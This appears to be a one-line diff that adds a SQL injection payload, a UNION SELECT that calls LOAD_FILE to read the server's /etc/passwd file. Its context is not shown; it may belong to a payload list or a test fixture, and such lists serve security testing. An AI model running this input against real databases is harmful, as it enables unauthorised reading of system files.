@@ -1,0 +1,1 @@
+SELECT 1 UNION SELECT LOAD_FILE('/etc/passwd')
